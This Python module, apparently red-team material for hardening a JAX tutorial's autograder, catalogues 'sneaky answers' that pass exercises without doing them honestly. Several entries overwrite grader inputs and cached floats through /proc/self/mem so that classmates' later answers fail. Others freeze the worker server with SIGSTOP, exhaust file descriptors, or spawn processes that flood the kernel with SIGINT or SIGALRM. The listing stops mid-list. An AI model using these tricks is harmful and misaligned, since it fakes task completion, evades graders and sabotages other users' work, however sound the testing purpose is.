"""Round 21, sneaky answers: from the lessons and the public API alone."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import jax
import jax.numpy as jnp
import numpy as np


@dataclass(frozen=True)
class Sneaky:
    exercise_id: str
    what: str  # the trick, in words
    answer: Callable[[], Any]
    bends_later: bool  # True when its aim is to change a LATER verdict, not its own


# ---------------------------------------------------------------- shared helpers
# Each builder below is self-contained: it imports what it needs and builds its value
# without harming the process (one warms a jit cache); any harm happens when the grader
# calls the value. Entries 26, 30 and 31 (SIGSTOP of the worker server, descriptor
# exhaustion, a SIGINT storm) disturb whatever runs them: run each in a process of its own.


def _interpret() -> bool:
    return jax.default_backend() not in ("tpu", "gpu")


def _page_matmul(x, y):
    """Lesson 16's tiled_matmul(matmul_kernel, x, y), as the page writes it."""
    from jax.experimental import pallas as pl

    bm, bn, bk = 16, 128, 128

    def matmul_kernel(x_ref, y_ref, o_ref):
        @pl.when(pl.program_id(2) == 0)
        def _():
            o_ref[...] = jnp.zeros_like(o_ref)

        o_ref[...] += jnp.dot(x_ref[...], y_ref[...], preferred_element_type=jnp.float32)

    (m, d), (_, n) = x.shape, y.shape
    return pl.pallas_call(
        matmul_kernel,
        out_shape=jax.ShapeDtypeStruct((m, n), x.dtype),
        grid=(m // bm, n // bn, d // bk),
        in_specs=[
            pl.BlockSpec((bm, bk), lambda i, j, k: (i, k)),
            pl.BlockSpec((bk, bn), lambda i, j, k: (k, j)),
        ],
        out_specs=pl.BlockSpec((bm, bn), lambda i, j, k: (i, j)),
        interpret=_interpret(),
    )(x, y)


# ---------------------------------------------------------------- 16: Pallas


def _scores_transposed_by_a_kernel():
    """y.T made by a second pallas_call (a block-transposing kernel), then the page's
    unchanged matmul: no jnp transpose anywhere for the check to see."""
    from jax.experimental import pallas as pl

    def transpose_kernel(y_ref, o_ref):
        o_ref[...] = y_ref[...].T

    def scores(x, y):
        n, d = y.shape
        y_t = pl.pallas_call(
            transpose_kernel,
            out_shape=jax.ShapeDtypeStruct((d, n), y.dtype),
            grid=(n // 128, d // 128),
            in_specs=[pl.BlockSpec((128, 128), lambda i, j: (i, j))],
            out_specs=pl.BlockSpec((128, 128), lambda i, j: (j, i)),
            interpret=_interpret(),
        )(y)
        return _page_matmul(x, y_t)

    return scores


# ---------------------------------------------------------------- /proc/self/mem pokes
# A jax array is immutable only to Python: its buffer is ordinary process memory, and
# /proc/self/mem lets the process write its own memory (no ctypes). Some exercises hand
# every check the same input arrays (a module-level case list), while their expected
# values were computed once: rewriting those inputs after answering leaves every later
# check of the exercise comparing new inputs against old expectations.


def _poke_every_input(tree, scale=2.0, shift=1.0):
    """Overwrite, in place, the buffer of every concrete jax array leaf of tree."""
    for leaf in jax.tree.leaves(tree):
        if not isinstance(leaf, jax.Array) or isinstance(leaf, jax.core.Tracer):
            continue
        if leaf.size == 0 or leaf.dtype == jnp.bool_:
            continue
        try:
            host = np.asarray(leaf)
            new = np.ascontiguousarray((host * scale + shift).astype(host.dtype))
            with open("/proc/self/mem", "r+b", buffering=0) as mem:
                mem.seek(leaf.unsafe_buffer_pointer())
                mem.write(new.tobytes())
        except Exception:  # noqa: BLE001  (a sharded or deleted array: leave it)
            pass


def _poking(solve):
    """solve, answered honestly, then every array it was given rewritten in place."""

    def answer(*args, **kwargs):
        out = jax.block_until_ready(solve(*args, **kwargs))
        _poke_every_input((args, kwargs))
        return out

    return answer


def _variant(exercise_id):
    from jaxtour import checks

    return checks.variant_values(exercise_id)


def _poke_grad_last_two():
    def grads_yw(loss, x, y, w):
        return jax.grad(lambda yy, ww: loss(x, yy, w=ww), argnums=(0, 1))(y, w)

    return _poking(grads_yw)


def _poke_fixed_target():
    discount = _variant("12.fixed_target").get("discount", 0.9)

    def fixed_td_loss(values, rewards):
        target = rewards + discount * jax.lax.stop_gradient(values[1:])
        return jnp.sum((values[:-1] - target) ** 2)

    return _poking(fixed_td_loss)


def _poke_fix_aux_order():
    weight = _variant("05.fix_aux_order").get("weight", 0.1)

    def error_stats(x, y):
        mse = jnp.mean((x - y) ** 2)
        penalty = weight * jnp.sum(x**2)
        return mse + penalty, {"mse": mse, "penalty": penalty}

    return _poking(error_stats)


def _poke_loss_and_outliers():
    threshold = _variant("05.loss_and_outliers").get("threshold", 0.5)

    def loss_and_outliers(params, x, y):
        errors = params["w"] * x + params["b"] - y
        return jnp.mean(errors**2), jnp.sum(jnp.abs(errors) > threshold).astype(jnp.int32)

    return _poking(loss_and_outliers)


def _poke_update():
    k = _variant("08.update").get("k", 1.0)

    def loss(params, x, y):
        return jnp.mean((params["a"] * x**2 + params["b"] * x + params["c"] - y) ** 2)

    def update(params, x, y, lr, decay):
        value, grads = jax.value_and_grad(loss)(params, x, y)
        return jax.tree.map(lambda p, g: p - lr * (g + k * decay * p), params, grads), value

    return _poking(update)


def _poke_sgd_step():
    decay = _variant("04.sgd_step").get("decay", 0.0)

    def sgd_step(params, grads, lr, max_norm):
        norm = jnp.sqrt(sum(jnp.sum(g**2) for g in jax.tree.leaves(grads)))
        scale = jnp.where(norm > max_norm, max_norm / norm, 1.0)
        return jax.tree.map(lambda p, g: p - lr * (scale * g + decay * p), params, grads)

    return _poking(sgd_step)


_POKE_WHAT = (
    "answers {ex} honestly, then writes 2*v+1 into the buffer of every input array it "
    "was handed, through /proc/self/mem (no ctypes): the grader hands every check the "
    "same arrays and keeps the expected values it computed once, so every later {ex} "
    "check, a classmate's right answer included, is judged on new inputs against old "
    "expectations"
)


def _row_sums_term():
    """The variant's term of x and w, as jnp (what lesson 16's variant cell names)."""
    kind = _variant("16.row_sums").get("kind", "weighted")
    if kind == "squared":
        return lambda x, w: (x - w) ** 2
    if kind in ("abs", "absolute"):
        return lambda x, w: jnp.abs(x - w)
    return lambda x, w: x * w


def _row_sums_term_outside():
    """The kernel is a generic accumulating row sum; the variant's term, the part that
    differs between learners, is computed by jnp before the kernel, over all of x."""
    from jax.experimental import pallas as pl

    term = _row_sums_term()

    def sum_kernel(t_ref, o_ref):
        @pl.when(pl.program_id(1) == 0)
        def _():
            o_ref[...] = jnp.zeros_like(o_ref)

        o_ref[...] += jnp.sum(t_ref[...], axis=1, keepdims=True)

    def row_sums(x, w):
        m, n = x.shape
        terms = term(x, w)  # outside any kernel
        return pl.pallas_call(
            sum_kernel,
            out_shape=jax.ShapeDtypeStruct((m, 1), jnp.float32),
            grid=(m // 16, n // 128),
            in_specs=[pl.BlockSpec((16, 128), lambda i, j: (i, j))],
            out_specs=pl.BlockSpec((16, 1), lambda i, j: (i, 0)),
            interpret=_interpret(),
        )(terms)

    return row_sums


def _row_sums_partials_outside():
    """No accumulator: each program writes its block's partial sums into a column of its
    own of an (m, n // 128) output, and jnp.sum adds the columns after the kernel."""
    from jax.experimental import pallas as pl

    term = _row_sums_term()

    def partial_kernel(x_ref, w_ref, o_ref):
        o_ref[...] = jnp.sum(term(x_ref[...], w_ref[...]), axis=1, keepdims=True)

    def row_sums(x, w):
        m, n = x.shape
        partials = pl.pallas_call(
            partial_kernel,
            out_shape=jax.ShapeDtypeStruct((m, n // 128), jnp.float32),
            grid=(m // 16, n // 128),
            in_specs=[
                pl.BlockSpec((16, 128), lambda i, j: (i, j)),
                pl.BlockSpec((1, 128), lambda i, j: (0, j)),
            ],
            out_specs=pl.BlockSpec((16, 1), lambda i, j: (i, j)),
            interpret=_interpret(),
        )(x, w)
        return jnp.sum(partials, axis=1, keepdims=True)  # the accumulation, outside

    return row_sums


def _write_in_place(array, values):
    """Write values into array's own buffer (the NumPy habit jax forbids)."""
    with open("/proc/self/mem", "r+b", buffering=0) as mem:
        mem.seek(array.unsafe_buffer_pointer())
        mem.write(np.ascontiguousarray(np.asarray(values, dtype=array.dtype)).tobytes())


def _swap_ends_in_place():
    """NumPy's in-place swap, kept: the ends of x are swapped where x lives, and x itself
    is returned (under jit, where x has no buffer, the .at[] form)."""

    def swap_ends(x):
        if isinstance(x, jax.core.Tracer):
            return x.at[0].set(x[-1]).at[-1].set(x[0])
        host = np.array(x)
        host[0], host[-1] = host[-1].copy(), host[0].copy()
        _write_in_place(x, host)
        return x

    return swap_ends


def _flag_diagonal_in_place():
    """np.fill_diagonal on m's own memory: m's buffer is rewritten, and the read-only
    NumPy view of m (np.asarray, no copy) is handed back."""
    flag = _variant("01.numpy_copy").get("flag", -1)

    def flag_diagonal(m):
        view = np.asarray(m)
        flagged = view.copy()
        np.fill_diagonal(flagged, flag)
        _write_in_place(m, flagged)
        return view

    return flag_diagonal


def _rule_delegated():
    """No rule written: the 'custom' JVP hands the primals and tangents to JAX's own
    differentiation of jnp.logaddexp."""

    def fixed_log_add_exp_jvp(primals, tangents):
        return jax.jvp(jnp.logaddexp, primals, tangents)

    return fixed_log_add_exp_jvp


def _sgd_step_in_place():
    """The step computed, then written into the leaves of params where they live; params
    itself is returned (the tree it was given, changed)."""
    decay = _variant("04.sgd_step").get("decay", 0.0)

    def sgd_step(params, grads, lr, max_norm):
        norm = jnp.sqrt(sum(jnp.sum(g**2) for g in jax.tree.leaves(grads)))
        scale = jnp.where(norm > max_norm, max_norm / norm, 1.0)
        new = jax.tree.map(lambda p, g: p - lr * (scale * g + decay * p), params, grads)
        for old, fresh in zip(jax.tree.leaves(params), jax.tree.leaves(new), strict=True):
            _write_in_place(old, np.asarray(fresh))
        return params

    return sgd_step


def _update_in_place():
    """08.update as an in-place optimizer: new values written into params' own buffers."""
    k = _variant("08.update").get("k", 1.0)

    def loss(params, x, y):
        return jnp.mean((params["a"] * x**2 + params["b"] * x + params["c"] - y) ** 2)

    def update(params, x, y, lr, decay):
        value, grads = jax.value_and_grad(loss)(params, x, y)
        new = jax.tree.map(lambda p, g: p - lr * (g + k * decay * p), params, grads)
        for old, fresh in zip(jax.tree.leaves(params), jax.tree.leaves(new), strict=True):
            _write_in_place(old, np.asarray(fresh))
        return params, value

    return update


def _scale_column_in_place():
    """jax.ops.index_mul's old in-place habit: called plainly, column j of m is scaled where
    m lives and m returned; only under jit (no buffer to write) the .at[] form."""
    name = _variant("06.scale_column").get("fn", "floor")
    host_round = {"floor": np.floor, "round": np.round, "ceil": np.ceil, "trunc": np.trunc}[name]
    jax_round = {"floor": jnp.floor, "round": jnp.round, "ceil": jnp.ceil, "trunc": jnp.trunc}[name]

    def scale_column(m, j, factor):
        if isinstance(m, jax.core.Tracer):
            return m.at[:, j].set(jax_round(m[:, j] * factor).astype(m.dtype))
        host = np.array(m)
        host[:, j] = host_round(host[:, j] * factor)
        _write_in_place(m, host)
        return m

    return scale_column


def _fit_past_the_guard():
    """The loss computed a second time on every pass, by the jitted step the grader's guard
    holds as its public .step: the guard counts only calls made through itself."""

    def fit_until(step, params, x, y, lr, target):
        inner = getattr(step, "step", step)
        steps = 0
        while float(inner(params, x, y, lr)[1]) >= target:
            params, _ = step(params, x, y, lr)
            steps += 1
        return params, steps

    return fit_until


def _derivative_laundered_through_grad():
    """The derivative worked out by hand, -x**3 sin(a x), then passed through jax.grad of a
    linear function whose gradient is exactly that array: JAX 'differentiates', by hand."""

    def dg_da(x, a):
        by_hand = -(x**3) * jnp.sin(a * x)
        return jax.grad(lambda s: jnp.sum(s * by_hand))(jnp.ones_like(by_hand))

    return dg_da


def _per_example_grads_by_hand():
    """No vmap and no grad: log loss's gradient worked out by hand, (sigmoid(logit) - y) * x
    (+ the variant's decay), broadcast over the columns."""
    values = _variant("09.per_example_grads")
    decay, out_axes = values.get("decay", 0.0), values.get("out_axes", -1)

    def per_example_grads(params, xs, ys):
        r = jax.nn.sigmoid(params["w"] @ xs + params["b"]) - ys
        gw = xs * r[None, :] + 2 * decay * params["w"][:, None]
        return {"w": gw if out_axes != 0 else gw.T, "b": r}

    return per_example_grads


def _prefix_means_on_host_by_memoryview():
    """NumPy on the host after all, reached through the buffer protocol
    (np.frombuffer(memoryview(x))) instead of np.asarray, device_get or a callback."""
    code = _variant("15.fixed_shape").get("code", "x")
    term = {"x": lambda v: v, "jnp.abs(x)": np.abs, "x ** 2": np.square}.get(code, lambda v: v)

    def prefix_means(x, lengths):
        host = np.frombuffer(memoryview(x), dtype=np.float32)
        sums = np.cumsum(term(host.astype(np.float64)))
        n = np.asarray(lengths)
        return jnp.asarray((sums[n - 1] / n).astype(np.float32))

    return prefix_means


def _views_keyed_by_content():
    """ids ignored: each row's noise key is folded from the row's own bits, so a shuffled
    row keeps its noise as long as no two examples hold the same numbers."""
    std = _variant("09.two_views").get("std", 0.1)

    def two_views(key, xs, ids):
        def one(x):
            fingerprint = jnp.sum(x * jnp.arange(1, x.shape[0] + 1, dtype=x.dtype))
            k = jax.random.fold_in(key, jax.lax.bitcast_convert_type(fingerprint, jnp.int32))
            ka, kb = jax.random.split(k)
            noise_a = jax.random.normal(ka, x.shape)
            noise_b = jax.random.normal(kb, x.shape)
            return x + std * noise_a, x + std * noise_b

        return jax.vmap(one)(xs)

    return two_views


def _grow_while_with_forward_mode():
    """The page's while_loop kept as it is (grad refuses it); a custom_vjp bolts reverse
    mode on, its backward pass the Jacobian jax.jacfwd takes through the while_loop."""
    import functools

    capacity = _variant("11.while_grad").get("capacity", 1)

    def grow_while(r, x0, cap, max_steps):
        def keep_going(state):
            k, x = state
            return (k < max_steps) & (x < cap)

        def one_step(state):
            k, x = state
            return k + 1, x + r * x * (1 - x / capacity)

        return jax.lax.while_loop(keep_going, one_step, (0, x0))[1]

    @functools.partial(jax.custom_vjp, nondiff_argnums=(3,))
    def grow(r, x0, cap, max_steps):
        return grow_while(r, x0, cap, max_steps)

    def forward(r, x0, cap, max_steps):
        jac = jax.jacfwd(grow_while, argnums=(0, 1, 2))(r, x0, cap, max_steps)
        return grow_while(r, x0, cap, max_steps), jac

    def backward(max_steps, jac, g):
        return tuple(g * j for j in jac)

    grow.defvjp(forward, backward)
    return grow


def _sum_of_powers_in_python_ints():
    """No jnp at all: v read on the host through the buffer protocol and summed exactly in
    Python ints, the result wrapped as a jax float32."""
    power = _variant("01.overflow_fix").get("power", 3)

    def sum_of_cubes(v):
        host = np.frombuffer(memoryview(v), dtype=np.int32) if v.size else np.zeros(0, np.int32)
        return jnp.asarray(float(sum(int(k) ** power for k in host.tolist())), dtype=jnp.float32)

    return sum_of_cubes


def _hvp_by_hand():
    """No differentiation at all: the chain's Hessian is tridiagonal, so H @ v is written
    out by hand (springs' discrete Laplacian plus the wells' cos(x) * v)."""
    depth = _variant("12.hvp").get("depth", 1.0)

    def hvp(x, v, k):
        left = jnp.concatenate([jnp.zeros_like(v[:1]), v[:-1]])
        right = jnp.concatenate([v[1:], jnp.zeros_like(v[:1])])
        degree = jnp.full_like(v, 2.0).at[0].set(1.0).at[-1].set(1.0)
        return k * (degree * v - left - right) + depth * jnp.cos(x) * v

    return hvp


def _center_on_the_host():
    """No jnp: x read on the host through the buffer protocol, centered by NumPy, and
    handed back as a jax array."""
    target = _variant("01.center").get("target", 0.0)

    def center(x):
        if x.size == 0:
            return x
        host = np.frombuffer(memoryview(x), dtype=x.dtype).reshape(x.shape)
        return jnp.asarray(host - host.mean(axis=-1, keepdims=True) + target)

    return center


def _entropy_with_a_hand_written_gradient():
    """The NaN-making version kept for the values; the gradient replaced by a custom_vjp
    whose rule is the derivative worked out by hand, 0 at the ends by fiat."""
    base = str(_variant("13.xlogx_gradient").get("base", "e"))
    log = {"e": jnp.log, "2": jnp.log2, "10": jnp.log10}.get(base, jnp.log)
    ln_base = {"e": 1.0, "2": float(np.log(2.0)), "10": float(np.log(10.0))}.get(base, 1.0)

    def buggy(p):
        inside = (p > 0) & (p < 1)
        return jnp.where(inside, -(p * log(p) + (1 - p) * log(1 - p)), 0.0)

    @jax.custom_vjp
    def coin_entropy(p):
        return buggy(p)

    def forward(p):
        return buggy(p), p

    def backward(p, g):
        inside = (p > 0) & (p < 1)
        q = jnp.where(inside, p, 0.5)
        return (g * jnp.where(inside, (jnp.log(1 - q) - jnp.log(q)) / ln_base, 0.0),)

    coin_entropy.defvjp(forward, backward)
    return coin_entropy


def _central_difference_remeasuring_the_roof():
    """A right answer that, on its first call, runs jaxtour.timing.roofline() again: the
    check does not refuse it, and lesson 15's checks then judge the class's estimates
    against a roof no cell printed. It is measured under jax.debug_nans / debug_infs
    (context managers, undone before the check ends), which scan every result on the
    host: the copy's bandwidth comes out far below the device's."""
    state = {"measured": False}

    def central_difference(f, x, eps=1e-3):
        if not state["measured"]:
            from jaxtour import timing

            state["measured"] = True
            with jax.debug_nans(True), jax.debug_infs(True):  # every output checked on the host
                timing.roofline(budget_s=0.02)
        x = float(x)
        return (f(x + eps) - f(x - eps)) / (2 * eps)

    return central_difference


def _local_rows_freezing_the_worker_server():
    """Right rows; on the way, jaxtour.hosts.start_server() (public, not refused) makes
    sure lesson 14's worker server runs, and os.kill(pid, SIGSTOP) freezes it: a child of
    the kernel that every later hosts.run, and so every later 14.global_mean check, forks
    its workers from. Those checks then wait out their limit and blame the learner's code."""
    import os
    import signal

    position = _variant("14.fix_rows").get("position", "process_index")

    def worker_servers():
        found = []
        for task in os.listdir("/proc/self/task"):
            try:
                with open(f"/proc/self/task/{task}/children") as fh:
                    pids = [int(p) for p in fh.read().split()]
            except OSError:
                continue
            for pid in pids:
                try:
                    with open(f"/proc/{pid}/cmdline", "rb") as fh:
                        if b"worker_server" in fh.read():
                            found.append(pid)
                except OSError:
                    pass
        return found

    def local_rows(data, process_index, process_count):
        from jaxtour import hosts

        try:
            hosts.start_server()
        except Exception:  # noqa: BLE001  (no server on this machine: nothing to freeze)
            pass
        for pid in worker_servers():
            os.kill(pid, signal.SIGSTOP)
        rows = data.shape[0] // process_count
        here = eval(position, {}, {"process_index": process_index, "process_count": process_count})
        return data[here * rows : (here + 1) * rows]

    return local_rows


def _ema_by_a_square_matrix():
    """No scan and no carry: every corrected average at once, as an n x n matrix of the
    weights (1 - beta) * beta**(t - k) times the series (memory grows with n**2)."""
    name = _variant("11.scan_ema").get("term", "x")
    term = {"abs(x)": jnp.abs, "x ** 2": jnp.square, "x**2": jnp.square}.get(name, lambda v: v)

    def corrected_ema(xs, beta):
        t = jnp.arange(1, xs.shape[0] + 1)
        i, k = jnp.meshgrid(t, t, indexing="ij")
        weights = jnp.where(k <= i, (1 - beta) * beta ** (i - k), 0.0)
        return (weights @ term(xs)) / (1 - beta**t)

    return corrected_ema


def _mean_loss_on_the_host():
    """Every batch dispatched, stacked by JAX, then the stacked losses read on the host
    through the buffer protocol and averaged by NumPy; the feedback says 'the mean taken
    by JAX'."""
    base = _variant("02.mean_loss").get("base", None)

    def mean_loss(f, xs):
        stacked = jnp.stack([f(x) for x in xs])
        mean = float(np.frombuffer(memoryview(stacked), dtype=np.float32).mean())
        return mean if base is None else base**mean

    return mean_loss


def _walk_from_a_drawn_seed():
    """The key is used once, to draw an integer; every later key is rebuilt from that
    integer by arithmetic (jax.random.key(2 * seed + 2 * i), ...), so no key is ever used
    twice and neighbouring seeds share their keys."""
    values = _variant("09.random_walk")
    scale, rest = values.get("scale", 1.0), values.get("rest", None)

    def random_walk(key, steps):
        seed = jax.random.randint(key, (), 0, 2**30)
        position, path = 0.0, []
        for i in range(steps):
            step = scale * jax.random.normal(jax.random.key(2 * seed + 2 * i))
            if rest is not None:
                stay = jax.random.bernoulli(jax.random.key(2 * seed + 2 * i + 1), rest)
                step = jnp.where(stay, 0.0, step)
            position = position + step
            path.append(position)
        return jnp.stack(path)

    return random_walk


def _fill_negative_leaking_descriptors():
    """Right, and on its first call (while traced) it opens pipes until the process has
    no file descriptor left, then gives back 8: os.pipe is not refused and nothing closes
    them. Checks that open sockets or pipes afterwards (lesson 14's workers) fail with
    'Too many open files', reported as the classmate's error or as the machine's fault."""
    import os

    low = _variant("07.clip_negative").get("low", 0.0)
    held: list[int] = []

    def fill_negative(x):
        if not held:
            try:
                while True:
                    held.extend(os.pipe())
            except OSError:
                for _ in range(min(8, len(held))):
                    os.close(held.pop())
        kept = x >= low
        return jnp.where(kept, x, jnp.sum(jnp.where(kept, x, 0)) / jnp.sum(kept))

    return fill_negative


def _count_labels_spawning_an_interrupter():
    """Right, and on its first call it starts, with os.posix_spawn (fork is refused, this
    is not), a shell that sends the kernel SIGINT every half second for ten seconds: the
    checks that run meanwhile, a classmate's included, end 'Checking was interrupted,
    nothing judged'. The shell outlives the check and stops when the kernel is gone."""
    import os

    started: list[int] = []

    def count_labels(labels, n):
        if not started:
            script = (
                f"sleep 1; i=0; while [ $i -lt 20 ]; do kill -INT {os.getpid()} 2>/dev/null "
                "|| exit 0; sleep 0.5; i=$((i+1)); done"
            )
            started.append(os.posix_spawn("/bin/sh", ["sh", "-c", script], dict(os.environ)))
        return jnp.zeros(n, jnp.int32).at[jnp.where(labels < 0, n, labels)].add(1, mode="drop")

    return count_labels


def _td_loss_with_a_hand_written_gradient():
    """The target is not held (no stop_gradient anywhere); a custom_vjp hands back the
    gradients the task describes, written by hand."""
    discount = _variant("12.fixed_target").get("discount", 0.9)

    @jax.custom_vjp
    def fixed_td_loss(values, rewards):
        target = rewards + discount * values[1:]
        return jnp.sum((values[:-1] - target) ** 2)

    def forward(values, rewards):
        return fixed_td_loss(values, rewards), (values, rewards)

    def backward(saved, ct):
        values, rewards = saved
        err = values[:-1] - (rewards + discount * values[1:])
        d_values = jnp.concatenate([2 * err, jnp.zeros((1,), values.dtype)])
        return ct * d_values, ct * (-2 * err)

    fixed_td_loss.defvjp(forward, backward)
    return fixed_td_loss


def _update_poking_the_case_floats():
    """Right; then the Python floats it was handed as lr and decay (constants of the
    grader's case list, reused by every check) are rewritten in place: 8 bytes at
    id(f) + 16, CPython's double, through /proc/self/mem."""
    import struct

    k = _variant("08.update").get("k", 1.0)

    def loss(params, x, y):
        return jnp.mean((params["a"] * x**2 + params["b"] * x + params["c"] - y) ** 2)

    def update(params, x, y, lr, decay):
        value, grads = jax.value_and_grad(loss)(params, x, y)
        out = jax.tree.map(lambda p, g: p - lr * (g + k * decay * p), params, grads), value
        jax.block_until_ready(out)
        for number in (lr, decay):
            if type(number) is float:
                with open("/proc/self/mem", "r+b", buffering=0) as mem:
                    mem.seek(id(number) + 16)
                    mem.write(struct.pack("d", number * 3))
        return out

    return update


def _odds_down_with_numpy():
    """np.arange on the host, handed to jnp.asarray as int32; the feedback says 'NumPy's
    arguments with jnp in front'."""
    last = _variant("01.arange").get("last", 1)

    def odds_down(n):
        return jnp.asarray(np.arange(n, last - 1, -2), dtype=jnp.int32)

    return odds_down


def _fix_loss_gathering_everything():
    """No per-device reduction: every device all_gathers the whole padded batch and
    computes the mean itself, then a pmean of identical numbers satisfies out_specs=P();
    the feedback says each device added up its own points. (Judged on 8 devices.)"""
    tol = _variant("10.fix_loss").get("tol", 0.0)

    def model(params, x):
        return params["a"] * x**2 + params["b"] * x + params["c"]

    def masked_mae_device(params, x, y, valid):
        xs = jax.lax.all_gather(x, "batch", tiled=True)
        ys = jax.lax.all_gather(y, "batch", tiled=True)
        mask = jax.lax.all_gather(valid, "batch", tiled=True)
        err = jnp.maximum(jnp.abs(model(params, xs) - ys) - tol, 0.0)
        return jax.lax.pmean(jnp.sum(jnp.where(mask, err, 0.0)) / jnp.sum(mask), "batch")

    return masked_mae_device


def _curvatures_spawning_an_alarm_clock():
    """Right, and it posix_spawns a small Python that watches /proc/<kernel>/status and,
    whenever the kernel catches SIGALRM (that is, while a check's time limit is armed),
    sends it SIGALRM for 15 s, meaning to cut every check off as 'timeout' at once."""
    import os
    import sys

    watcher = (
        "import os, signal, time\n"
        "pid = {pid}\n"
        "end = time.time() + 15\n"
        "bit = 1 << (signal.SIGALRM - 1)\n"
        "while time.time() < end:\n"
        "    try:\n"
        "        with open(f'/proc/{{pid}}/status') as fh:\n"
        "            caught = int([l for l in fh if l.startswith('SigCgt')][0].split()[1], 16)\n"
        "    except (OSError, IndexError):\n"
        "        break\n"
        "    if caught & bit:\n"
        "        os.kill(pid, signal.SIGALRM)\n"
        "    time.sleep(0.05)\n"
    )
    order = _variant("03.fix_slopes").get("order", 2)
    started: list[int] = []

    def curvatures(f, t):
        if not started:
            code = watcher.format(pid=os.getpid())
            argv = [sys.executable, "-c", code]
            started.append(os.posix_spawn(sys.executable, argv, dict(os.environ)))
        g = f
        for _ in range(order):
            g = jax.grad(g)
        return jax.vmap(g)(jnp.asarray(t, jnp.float32))

    return curvatures


# ---------------------------------------------------------------- host callbacks
# Not to hide a loop (known) but to run the untraceable NumPy original whole: jit then
# compiles one opaque host call, and the checks that only ask 'does it work under jit'
# say yes, in words about size= and masks.


def _first_two_positive_by_callback():
    fill = _variant("11.first_two_positive").get("fill", 0.0)

    def eager(x):
        x = np.asarray(x)
        found = x[np.nonzero(x > 0)[0][:2]]
        return np.concatenate([found, np.full(2 - found.shape[0], fill, x.dtype)]).astype(x.dtype)

    def first_two_positive(x):
        return jax.pure_callback(eager, jax.ShapeDtypeStruct((2,), x.dtype), x)

    return first_two_positive


def _fill_negative_by_callback():
    low = _variant("07.clip_negative").get("low", 0.0)

    def fill_negative_numpy(x):
        x = np.array(x)
        kept = x >= low
        x[~kept] = x[kept].mean()
        return x

    def fill_negative(x):
        return jax.pure_callback(fill_negative_numpy, jax.ShapeDtypeStruct(x.shape, x.dtype), x)

    return fill_negative


def _scale_column_by_callback():
    name = _variant("06.scale_column").get("fn", "floor")
    rounding = {"floor": np.floor, "round": np.round, "ceil": np.ceil, "trunc": np.trunc}[name]

    def scale_numpy(m, j, factor):
        m = np.array(m)
        m[:, j] = rounding(m[:, j] * factor)
        return m

    def scale_column(m, j, factor):
        return jax.pure_callback(
            lambda table: scale_numpy(table, j, factor), jax.ShapeDtypeStruct(m.shape, m.dtype), m
        )

    return scale_column


# ---------------------------------------------------------------- refused attempts kept


def _prices_shotgun_message():
    """Every bad position and every bad price in the message, the rest masked (-1, nan):
    the first bad pair is in there somewhere, without computing which it is."""
    from jax.experimental import checkify

    lag = _variant("13.check_prices").get("lag", 1)

    def log_returns(prices):
        bad = prices <= 0
        positions = jnp.where(bad, jnp.arange(prices.shape[0]), -1)
        values = jnp.where(bad, prices, jnp.nan)
        checkify.check(~jnp.any(bad), "bad prices at {i}: {p}", i=positions, p=values)
        logs = jnp.log(prices)
        return logs[lag:] - logs[:-lag]

    return log_returns


def _smooth_static_and_prewarmed():
    """weights static (one compile per kernel), its cache warmed beforehand with the
    kernels the check's own trace prints showed (the lesson's fixed kernels and shapes),
    so that only kernels never seen before can compile during the check."""

    def smooth(x, weights, same):
        kernel = jnp.array(weights)
        total = sum(weights)
        if total != 0:
            kernel = kernel / total
        if same:
            return jnp.convolve(x, kernel, mode="same")
        return jnp.convolve(x, kernel, mode="valid")

    fast_smooth = jax.jit(smooth, static_argnames=("weights", "same"))
    seen = [
        (8, (1.0, 2.0, 1.0), False),
        (5, (0.5, 1.5), True),
        (10, (1.0, 1.0, 3.0, 1.0, 1.0), True),
        (8, (3.0, 0.0, 1.0), False),
        (6, (1.0, -2.0, 1.0), True),
        (6, (-1.0, 0.0, 1.0), False),
        (7, (1.0, -3.0, 1.0), False),
    ]
    for n, weights, same in seen:
        x = jnp.ones(n, jnp.float32)
        fast_smooth(x, weights, same)
        fast_smooth(x, weights=weights, same=same)
    return fast_smooth


SNEAKY_21: list[Sneaky] = [
    Sneaky(
        "16.fix_scores",
        "the bug left in: y is transposed by a second, block-transposing Pallas kernel, "
        "and the page's matmul kernel, unchanged, gets the (d, n) copy. The check refuses "
        "a transposed copy made by jnp (y.T, an identity dot_general, a gather) but not "
        "one made by another pallas_call",
        _scores_transposed_by_a_kernel,
        False,
    ),
    Sneaky("04.grad_last_two", _POKE_WHAT.format(ex="04.grad_last_two"), _poke_grad_last_two, True),
    Sneaky("12.fixed_target", _POKE_WHAT.format(ex="12.fixed_target"), _poke_fixed_target, True),
    Sneaky("05.fix_aux_order", _POKE_WHAT.format(ex="05.fix_aux_order"), _poke_fix_aux_order, True),
    Sneaky(
        "05.loss_and_outliers",
        _POKE_WHAT.format(ex="05.loss_and_outliers") + " (a right count is then named the "
        "'>= threshold' mistake)",
        _poke_loss_and_outliers,
        True,
    ),
    Sneaky("08.update", _POKE_WHAT.format(ex="08.update"), _poke_update, True),
    Sneaky("04.sgd_step", _POKE_WHAT.format(ex="04.sgd_step"), _poke_sgd_step, True),
    Sneaky(
        "16.row_sums",
        "the variant's term ((x - w) ** 2, |x - w| or x * w) computed by jnp over all of x "
        "before the kernel; the kernel is a generic accumulating row sum that never sees w",
        _row_sums_term_outside,
        False,
    ),
    Sneaky(
        "16.row_sums",
        "no accumulator and no pl.when: every program writes its own block's partial sums "
        "to a column of an (m, n // 128) output, and jnp.sum adds them after the kernel "
        "(the feedback then praises the zero-then-add accumulation it does not have)",
        _row_sums_partials_outside,
        False,
    ),
    Sneaky(
        "06.set_first",
        "the swap done in place, as the NumPy port wanted: x's buffer is rewritten through "
        "/proc/self/mem and x itself returned; the check still says 'a new array, and x is "
        "unchanged'",
        _swap_ends_in_place,
        False,
    ),
    Sneaky(
        "01.numpy_copy",
        "np.fill_diagonal's result written into m's own buffer through /proc/self/mem, and "
        "np.asarray(m), the read-only view, returned: no copy at all, m changed, and the "
        "check says 'm as it was'",
        _flag_diagonal_in_place,
        False,
    ),
    Sneaky(
        "12.fix_rule",
        "the rule is not written: it returns jax.jvp(jnp.logaddexp, primals, tangents), "
        "JAX's own derivative of a library function, which the check takes for a rule "
        "written by hand",
        _rule_delegated,
        False,
    ),
    Sneaky(
        "04.sgd_step",
        "an in-place optimizer: the new values written into the params leaves' own buffers "
        "(/proc/self/mem) and params itself returned; the check says 'the caller's params "
        "stay as they were' (and the grader's reused params are now changed for good)",
        _sgd_step_in_place,
        False,
    ),
    Sneaky(
        "08.update",
        "in place: each parameter overwritten where it lives, params itself returned with the loss",
        _update_in_place,
